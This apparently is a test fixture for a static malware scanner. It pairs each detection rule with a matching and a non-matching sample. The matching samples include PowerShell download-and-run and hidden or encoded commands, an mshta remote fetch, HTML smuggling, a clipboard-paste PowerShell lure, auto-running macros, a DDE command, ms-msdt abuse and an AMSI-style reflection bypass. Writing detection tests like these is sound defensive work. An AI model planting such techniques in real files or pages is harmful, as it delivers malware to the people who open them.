/** For every rule of the static engine, one text that it must find and a similar one that it must not find. None of them can run. */

export interface RuleSample {
  readonly positive: Uint8Array;
  readonly negative: Uint8Array;
}

/** The scanner test string. It is put together at run time, so that no file of this project is a scanner test file. */
export const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

const text = (value: string) => Buffer.from(value, 'latin1');
const wide = (value: string) => Buffer.from(value, 'utf16le');
const sample = (positive: string | Buffer, negative: string | Buffer): RuleSample => ({
  positive: typeof positive === 'string' ? text(positive) : positive,
  negative: typeof negative === 'string' ? text(negative) : negative,
});

const isoWith = (name: string) => {
  const image = Buffer.alloc(0x9000);
  image.write('CD001', 0x8001);
  image.write(`\0${name};1\0`, 0x8800, 'latin1');
  return image;
};
const lnkHeader = Buffer.from('4c0000000114020000000000c000000000000046', 'hex');
const oneNoteHeader = Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex');
const oneNoteFile = Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex');
const cfbMagic = Buffer.from('d0cf11e0a1b11ae1', 'hex');
const equationClass = Buffer.from('02ce020000000000c000000000000046', 'hex');
const dosMessage = 'VGhpcyBwcm9ncmFtIGNhbm5vdCBiZSBydW4gaW4gRE9TIG1vZGU';

export const RULE_SAMPLES: Readonly<Record<string, RuleSample>> = {
  eicar_test_file: sample(`${EICAR} \r\n`, `${EICAR} and more words`),
  eicar_test_string: sample(`quoted: ${EICAR}`, `${EICAR.slice(0, 28)} broken ${EICAR.slice(28)}`),
  powershell_download_and_run: sample(
    "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')",
    'Invoke-WebRequest is a cmdlet that fetches a page.',
  ),
  powershell_encoded_command: sample(
    wide(`powershell.exe -nop -enc ${'QQBB'.repeat(12)}`),
    'powershell.exe -encoding utf8 -file report.ps1',
  ),
  powershell_hidden: sample(
    'powershell -w hidden -ep bypass -file a.ps1',
    'powershell -ExecutionPolicy Bypass -File build.ps1',
  ),
  script_host_dropper: sample(
    'var s = new ActiveXObject("WScript.Shell"); var x = new ActiveXObject("MSXML2.XMLHTTP"); s.Run("a");',
    'var fso = new ActiveXObject("Scripting.FileSystemObject"); fso.FileExists("a");',
  ),
  living_off_the_land: sample('mshta http://example.invalid/a.hta', 'certutil -verify certificate.cer'),
  javascript_self_decoding: sample("eval(unescape('%61'))", "var page = unescape('%61'); evaluate(page);"),
  vbscript_character_chain: sample(`x = ${'Chr(104) & '.repeat(14)}"a"`, 'x = Chr(13) & Chr(10) & "line"'),
  html_smuggling: sample(
    `<script>var d="${'QUJD'.repeat(60)}";var b=new Blob([Uint8Array.from(atob(d))]);a.href=URL.createObjectURL(b);a.download="x.zip"</script>`,
    '<script>var b=new Blob(["text"]); send(b);</script>',
  ),
  svg_script: sample(
    '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
    '<svg><text>script</text></svg>',
  ),
  vba_automatic_run: sample(
    'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\n  Shell "calc"\r\nEnd Sub',
    'Attribute VB_Name = "M"\r\nSub Total()\r\n  Cells(1, 1) = 2\r\nEnd Sub',
  ),
  vba_download: sample(
    'Attribute VB_Name = "M"\r\nSet h = CreateObject("MSXML2.XMLHTTP")',
    'Attribute VB_Name = "M"\r\nMsgBox "MSXML is not used"',
  ),
  excel4_macro_formula: sample(
    '<xm:macrosheet xmlns:xm="x"><f>EXEC("calc")</f></xm:macrosheet>',
    '<worksheet><c><f>EXECUTIVE(A1)</f></c></worksheet>',
  ),
  dde_command: sample(
    "=cmd|'/c calc'!A1",
    'a table | with a pipe and cmd in prose!\nconst isCommand = /^(cmd|meta|m)$/i.test(key) ? !isMac : isMac;',
  ),
  equation_editor_object: sample(Buffer.concat([cfbMagic, equationClass]), 'A text about Equation.3 objects.'),
  ole_link_to_remote_script: sample(
    wide('OLE2Link http://example.invalid/a.hta'),
    'A link https://example.org and OLE objects.',
  ),
  rtf_self_updating_object: sample(
    '{\\rtf1{\\object\\objupdate{\\*\\objdata 01}}}',
    '{\\rtf1 updates of \\b objects\\b0}',
  ),
  active_mime: sample(
    'Content-Type: application/x-mso\r\n\r\nQWN0aXZlTWltZQAA',
    'Content-Type: text/plain\r\n\r\nQWN0aXZlTWltZQAA',
  ),
  pdf_javascript_heap_spray: sample('Collab.collectEmailInfo({msg: s})', 'Collab is short for collaboration.'),
  pdf_launches_system_tool: sample(
    '%PDF-1.4 << /S /Launch /Win << /F (cmd.exe) >> >>',
    '%PDF-1.4 << /S /GoTo /F (cmd.exe) >>',
  ),
  shortcut_runs_interpreter: sample(
    Buffer.concat([lnkHeader, wide('..\\powershell.exe -nop')]),
    Buffer.concat([lnkHeader, wide('..\\documents\\report.docx')]),
  ),
  shortcut_text_to_remote_place: sample(
    '[InternetShortcut]\r\nURL=file://server/share/a.exe',
    '[InternetShortcut]\r\nURL=https://example.org/',
  ),
  onenote_embedded_program: sample(Buffer.concat([oneNoteHeader, oneNoteFile]), oneNoteHeader),
  disk_image_with_program: sample(isoWith('SETUP.EXE'), isoWith('README.TXT')),
  command_for_the_clipboard: sample(
    '<p>Press Win + R, then Ctrl + V</p><script>navigator.clipboard.writeText("powershell -w 1 x")</script>',
    '<p>Press Ctrl + V</p><script>navigator.clipboard.writeText("npm install")</script>',
  ),
  batch_behind_wide_mark: sample(
    '\xff\xfe&cls\r\n@echo off\r\n',
    Buffer.concat([Buffer.from([255, 254]), wide('@echo off')]),
  ),
  protection_switched_off_by_reflection: sample(
    '$t.GetField("x", "NonPublic,Static").SetValue($null, 1) # System.Management.Automation',
    '$t.GetField("x", "Public,Static").SetValue($null, 1) # System.Management.Automation',
  ),
  folder_settings_to_remote_place: sample(
    '[.ShellClassInfo]\r\nIconResource=\\\\host.example\\x.ico,0',
    '[.ShellClassInfo]\r\nIconResource=C:\\x.ico,0',
  ),
  setup_information_runs_script: sample(
    '[UnRegisterOCXs]\r\n%11%\\scrobj.dll,NI,http://host.example/a.sct',
    '[RegisterOCXs]\r\n%11%\\driver.dll',
  ),
  console_file_with_script: sample(
    '<MMC_ConsoleFile><String>res://apds.dll/redirect.html</String></MMC_ConsoleFile>',
    '<MMC_ConsoleFile><String>Event viewer</String></MMC_ConsoleFile>',
  ),
  installer_from_the_network: sample(
    '<jnlp codebase="http://host.example/"><security><all-permissions/></security></jnlp>',
    '<jnlp codebase="http://host.example/"><security/></jnlp>',
  ),
  windows_protocol_command: sample(
    'ms-msdt:/id PCWDiagnostic /param "IT_BrowseForFile=x"',
    'ms-msdt: starts the support diagnostics',
  ),
  program_in_base64: sample(`TVqQ${'A'.repeat(70)}${dosMessage}`, `TVqQ${'A'.repeat(70)} a picture`),
};
